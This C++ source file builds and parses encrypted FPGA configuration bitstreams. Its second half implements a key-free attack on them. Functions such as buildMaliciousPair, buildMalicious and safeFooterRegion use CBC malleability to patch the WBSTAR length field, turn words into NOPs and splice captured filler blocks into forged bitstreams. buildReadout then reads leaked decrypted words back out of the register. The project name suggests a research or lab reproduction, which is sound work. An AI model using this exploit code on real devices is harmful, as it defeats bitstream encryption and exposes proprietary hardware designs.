#include "cfglab/builder.hpp"

#include <array>

#include <fmt/format.h>

#include "cfglab/error.hpp"

namespace cfglab {

Block128 EncryptedBitstream::iv() const {
  Block128 b;
  for (int i = 0; i < 4; ++i) b.w[i] = words.at(ivIndex + i);
  return b;
}

Block128 EncryptedBitstream::block(std::size_t t) const {
  if (t == 0) return iv();
  if (t > blockCount) {
    throw Error(ErrorCode::BlockOutOfRange,
                fmt::format("block {} outside region of {} blocks", t, blockCount));
  }
  Block128 b;
  const std::size_t base = encStart + 4 * (t - 1);
  for (int i = 0; i < 4; ++i) b.w[i] = words[base + i];
  return b;
}

std::vector<Word> preamble() {
  std::vector<Word> out(6, kDummyWord);
  out.push_back(kBusWidthDetect1);
  out.push_back(kBusWidthDetect2);
  out.push_back(kDummyWord);
  out.push_back(kDummyWord);
  return out;
}

std::vector<Word> plainHeader(const Block128& iv, std::size_t encWordCount) {
  std::vector<Word> out = preamble();
  out.push_back(kSyncWord);
  out.push_back(kNopWord);
  appendPacket(out, writePacket(Reg::CBC, {iv.w.begin(), iv.w.end()}));
  appendPacket(out, writePacket(Reg::DWC, {static_cast<Word>(encWordCount)}));
  return out;
}

std::vector<Word> plainFooter() {
  std::vector<Word> out;
  appendPacket(out, writePacket(Reg::CMD, {cmd::kDesync}));
  out.resize(kPlainFooterWords, kNopWord);
  return out;
}

std::vector<Word> configHeader(Word wbstarValue, std::size_t fabricWords) {
  std::vector<Word> out;
  appendPacket(out, writePacket(Reg::TIMER, {0x00000000}));
  appendPacket(out, writePacket(Reg::WBSTAR, {wbstarValue}));
  appendPacket(out, writePacket(Reg::CMD, {cmd::kNull}));
  out.push_back(kNopWord);
  appendPacket(out, writePacket(Reg::CMD, {cmd::kWcfg}));
  out.push_back(kNopWord);
  out.push_back(encodeHeader(type1(Opcode::Write, Reg::FDRI, 0)));
  out.push_back(encodeHeader(type2(Opcode::Write, static_cast<std::uint32_t>(fabricWords))));
  return out;
}

namespace {

void checkFabric(const BuildOptions& opts) {
  if (opts.fabricPayload.empty()) {
    throw Error(ErrorCode::MalformedInput, "fabric payload is empty");
  }
  if (opts.fabricPayload.size() > kType2CountMax) {
    throw Error(ErrorCode::PayloadTooLarge,
                fmt::format("{} fabric words exceed the type2 count field",
                            opts.fabricPayload.size()));
  }
}

void padToChunk(std::vector<Word>& words) {
  while (words.size() % kChunkWords != 0) words.push_back(kNopWord);
}

}  // namespace

std::vector<Word> buildBody(const BuildOptions& opts) {
  checkFabric(opts);
  std::vector<Word> body = configHeader(opts.wbstarValue, opts.fabricPayload.size());
  body.insert(body.end(), opts.fabricPayload.begin(), opts.fabricPayload.end());
  appendPacket(body, writePacket(Reg::CMD, {cmd::kStart}));
  padToChunk(body);
  return body;
}

std::vector<Word> regionPlaintext(const BuildOptions& opts, const HmacKey& kHmac) {
  const std::vector<Word> body = buildBody(opts);
  const HmacEnvelope env = buildEnvelope(kHmac, computeTag(kHmac, body));
  std::vector<Word> region(env.headerChunk.begin(), env.headerChunk.end());
  region.insert(region.end(), body.begin(), body.end());
  const auto footer = env.footerWords();
  region.insert(region.end(), footer.begin(), footer.end());
  return region;
}

std::vector<BlockRole> regionLayout(std::size_t blockCount, std::size_t fabricWords) {
  const std::size_t headerBlocks = kHeaderChunkWords / 4;
  const std::size_t footerBlocks = kFooterWords / 4;
  std::vector<BlockRole> layout(blockCount, BlockRole::Footer);
  const std::size_t fabricBegin = kConfigHeaderWords;
  const std::size_t fabricEnd = kConfigHeaderWords + fabricWords;
  for (std::size_t i = 0; i < blockCount; ++i) {
    if (i < headerBlocks) {
      layout[i] = BlockRole::HmacHeader;
    } else if (i + footerBlocks >= blockCount) {
      layout[i] = BlockRole::HmacFooter;
    } else {
      const std::size_t first = 4 * (i - headerBlocks);
      const std::size_t last = first + 4;
      if (last <= fabricBegin) {
        layout[i] = BlockRole::ConfigHeader;
      } else if (first < fabricEnd) {
        layout[i] = BlockRole::Fabric;
      }
    }
  }
  return layout;
}

EncryptedBitstream assembleEncrypted(const Block128& iv, std::span<const Block128> cipher,
                                     std::vector<BlockRole> layout) {
  EncryptedBitstream bs;
  bs.words = plainHeader(iv, cipher.size() * 4);
  bs.syncIndex = kPreambleWords;
  bs.ivIndex = kPreambleWords + 3;
  bs.encStart = bs.words.size();
  bs.blockCount = cipher.size();
  for (const auto& b : cipher) bs.words.insert(bs.words.end(), b.w.begin(), b.w.end());
  const auto footer = plainFooter();
  bs.words.insert(bs.words.end(), footer.begin(), footer.end());
  bs.layout = layout.empty() ? std::vector<BlockRole>(cipher.size(), BlockRole::Fabric)
                             : std::move(layout);
  return bs;
}

EncryptedBitstream buildEncrypted(const BuildOptions& opts, const AesKey256& kAes,
                                  const HmacKey& kHmac) {
  const std::vector<Word> region = regionPlaintext(opts, kHmac);
  const auto plainBlocks = wordsToBlocks(region);
  const auto cipher = cbcEncrypt(kAes, opts.iv, plainBlocks);
  return assembleEncrypted(opts.iv, cipher,
                           regionLayout(cipher.size(), opts.fabricPayload.size()));
}

std::vector<Word> buildPlain(const BuildOptions& opts) {
  std::vector<Word> out = preamble();
  out.push_back(kSyncWord);
  out.push_back(kNopWord);
  const auto body = buildBody(opts);
  out.insert(out.end(), body.begin(), body.end());
  const auto footer = plainFooter();
  out.insert(out.end(), footer.begin(), footer.end());
  return out;
}

EncryptedBitstream parseEncrypted(std::span<const Word> words) {
  const auto sync = findSync(words);
  if (!sync) throw Error(ErrorCode::MalformedInput, "no SYNC word in bitstream");

  EncryptedBitstream bs;
  bs.syncIndex = *sync;
  const std::size_t base = *sync + 1;
  PacketWalker walker(words.subspan(base));
  bool haveIv = false;
  while (!walker.done()) {
    const WalkStep step = walker.next();
    if (step.kind != WalkStep::Kind::Packet || step.header.opcode != Opcode::Write ||
        !step.target) {
      continue;
    }
    if (*step.target == Reg::CBC && step.payload.size() == 4 && !step.clipped) {
      bs.ivIndex = base + step.offset + 1;
      haveIv = true;
    } else if (*step.target == Reg::DWC && step.payload.size() == 1) {
      const std::size_t encWords = step.payload[0];
      bs.encStart = base + walker.position();
      if (!haveIv || encWords % 4 != 0 || bs.encStart + encWords > words.size()) {
        throw Error(ErrorCode::MalformedInput,
                    fmt::format("inconsistent encrypted header (DWC {})", encWords));
      }
      bs.blockCount = encWords / 4;
      bs.words.assign(words.begin(), words.end());

      // The attacker does not know the fabric length; mark the fixed parts.
      const std::size_t headerBlocks = kHeaderChunkWords / 4;
      const std::size_t footerBlocks = kFooterWords / 4;
      bs.layout.assign(bs.blockCount, BlockRole::Fabric);
      for (std::size_t i = 0; i < bs.blockCount; ++i) {
        if (i < headerBlocks) {
          bs.layout[i] = BlockRole::HmacHeader;
        } else if (i < headerBlocks + kConfigHeaderWords / 4) {
          bs.layout[i] = BlockRole::ConfigHeader;
        } else if (i + footerBlocks >= bs.blockCount) {
          bs.layout[i] = BlockRole::HmacFooter;
        }
      }
      return bs;
    }
  }
  throw Error(ErrorCode::MalformedInput, "no DWC write found: bitstream is not encrypted");
}

std::vector<Word> buildReadout(Reg r) {
  std::vector<Word> out = preamble();
  out.push_back(kSyncWord);
  out.push_back(kNopWord);
  appendPacket(out, writePacket(Reg::CMD, {cmd::kRcfg}));
  out.insert(out.end(), 3, kNopWord);
  out.push_back(encodeHeader(type1(Opcode::Read, r, 1)));
  out.insert(out.end(), 4, kNopWord);
  return out;
}

// ---------------------------------------------------------------------------

Word lengthDelta(const HeaderTemplate& tpl, int j) {
  // WBSTAR data runs from the word after the header through word j of the
  // fourth attack block.
  const Word count = static_cast<Word>((4 - tpl.wordIndex) + 8 + j);
  return (tpl.writeHeader & kType1CountMax) ^ count;
}

namespace {

constexpr std::size_t kFooterRegionBlocks = 20;
constexpr std::size_t kIpadBlockA = 3;  // header blocks holding only 0x36363636
constexpr std::size_t kIpadBlockB = 4;

bool footerIsSafe(std::span<const Word> plain) {
  PacketWalker walker(plain);
  while (!walker.done()) {
    const WalkStep step = walker.next();
    if (step.kind == WalkStep::Kind::Packet && step.header.opcode == Opcode::Write &&
        step.target == Reg::WBSTAR && !step.payload.empty()) {
      return false;
    }
  }
  return true;
}

// Ciphertext for the 80-word config footer of an attack frame. Every block
// is one of the two captured ipad-filler blocks, whose decryptions are known
// without the key, so the plaintext the engine will interpret after the
// leaked word is known too and can be checked before use.
std::vector<Block128> safeFooterRegion(const EncryptedBitstream& captured, const Block128& c) {
  const Block128 ipad{{kIpadWord, kIpadWord, kIpadWord, kIpadWord}};
  const Block128 hA = captured.block(kIpadBlockA);
  const Block128 hB = captured.block(kIpadBlockB);
  const Block128 decA = ipad ^ captured.block(kIpadBlockA - 1);
  const Block128 decB = ipad ^ captured.block(kIpadBlockB - 1);

  // Alternating A,B first: every B after an A decrypts to the ipad pattern,
  // a Type1 write to an unknown register that swallows what follows.
  std::vector<unsigned> order{0b1010, 0b0101};
  for (unsigned v = 0; v < 16; ++v) {
    if (v != 0b1010 && v != 0b0101) order.push_back(v);
  }

  for (unsigned variant : order) {
    std::vector<Block128> cipher(kFooterRegionBlocks);
    std::vector<Word> plain;
    plain.reserve(kFooterRegionBlocks * 4);
    Block128 prev = c;
    for (std::size_t i = 0; i < kFooterRegionBlocks; ++i) {
      const bool useB = i < 4 ? ((variant >> i) & 1) != 0 : (i & 1) != 0;
      cipher[i] = useB ? hB : hA;
      const Block128 p = (useB ? decB : decA) ^ prev;
      plain.insert(plain.end(), p.w.begin(), p.w.end());
      prev = cipher[i];
    }
    if (footerIsSafe(plain)) return cipher;
  }
  throw Error(ErrorCode::UnsafeFooter,
              "no footer arrangement keeps the leaked WBSTAR word intact");
}

}  // namespace

MaliciousParts buildMaliciousPair(const EncryptedBitstream& captured, const Block128& cPrev,
                                  const Block128& c, const Block128& filler, int j,
                                  std::span<const Word> knownTrailing,
                                  const HeaderTemplate& tpl, bool patch) {
  if (j < 1 || j > 4) {
    throw Error(ErrorCode::BlockOutOfRange, fmt::format("word index {} outside 1..4", j));
  }
  if (patch && knownTrailing.size() != static_cast<std::size_t>(4 - j)) {
    throw Error(ErrorCode::MissingTrailingKnowledge,
                fmt::format("word {} needs {} known trailing words, got {}", j, 4 - j,
                            knownTrailing.size()));
  }
  if (tpl.block < 2 || tpl.block > captured.blockCount || tpl.wordIndex < 1 ||
      tpl.wordIndex > 4 || captured.blockCount < kFooterWords / 4 + 4) {
    throw Error(ErrorCode::BlockOutOfRange, "captured bitstream does not fit the header template");
  }

  std::vector<Block128> region;
  region.reserve(kMaliciousEncWords / 4);
  // HMAC header chunk; its last block carries the length Δ.
  region.push_back(captured.block(1));
  region.push_back(captured.block(2));
  region.push_back(captured.block(3));
  Block128 zero = captured.block(tpl.block - 1);
  if (patch) zero.w[tpl.wordIndex - 1] ^= lengthDelta(tpl, j);
  region.push_back(zero);

  // Attack chunk: ① WBSTAR write, ② filler, ③ chain block, ④ target.
  region.push_back(captured.block(tpl.block));
  region.push_back(filler);
  Block128 chain = cPrev;
  std::vector<int> nopWords;
  if (patch) {
    for (int k = j + 1; k <= 4; ++k) {
      chain.w[k - 1] ^= knownTrailing[k - j - 1] ^ kNopWord;
      nopWords.push_back(k);
    }
  }
  region.push_back(chain);
  region.push_back(c);

  const auto footer = safeFooterRegion(captured, c);
  region.insert(region.end(), footer.begin(), footer.end());
  for (std::size_t t = captured.blockCount - kFooterWords / 4 + 1; t <= captured.blockCount; ++t) {
    region.push_back(captured.block(t));
  }

  MaliciousParts out;
  const EncryptedBitstream framed = assembleEncrypted(captured.iv(), region);
  out.words = framed.words;
  out.patchedHeaderWord = framed.encStart + 12 + static_cast<std::size_t>(tpl.wordIndex - 1);
  for (int k : nopWords) out.nopPatchWords.push_back(framed.encStart + 24 + static_cast<std::size_t>(k - 1));
  return out;
}

std::vector<Word> buildMalicious(const EncryptedBitstream& target, std::size_t t, int j,
                                 std::optional<std::span<const Word>> knownTrailing,
                                 const Block128& filler, const HeaderTemplate& tpl) {
  if (t < 1 || t > target.blockCount) {
    throw Error(ErrorCode::BlockOutOfRange,
                fmt::format("block {} outside region of {} blocks", t, target.blockCount));
  }
  if (j < 1 || j > 4) {
    throw Error(ErrorCode::BlockOutOfRange, fmt::format("word index {} outside 1..4", j));
  }
  if (j < 4 && !knownTrailing) {
    throw Error(ErrorCode::MissingTrailingKnowledge,
                fmt::format("word {} of block {} needs words {}..4 first", j, t, j + 1));
  }
  const std::span<const Word> trailing = knownTrailing.value_or(std::span<const Word>{});
  return buildMaliciousPair(target, target.block(t - 1), target.block(t), filler, j, trailing,
                            tpl)
      .words;
}

}  // namespace cfglab
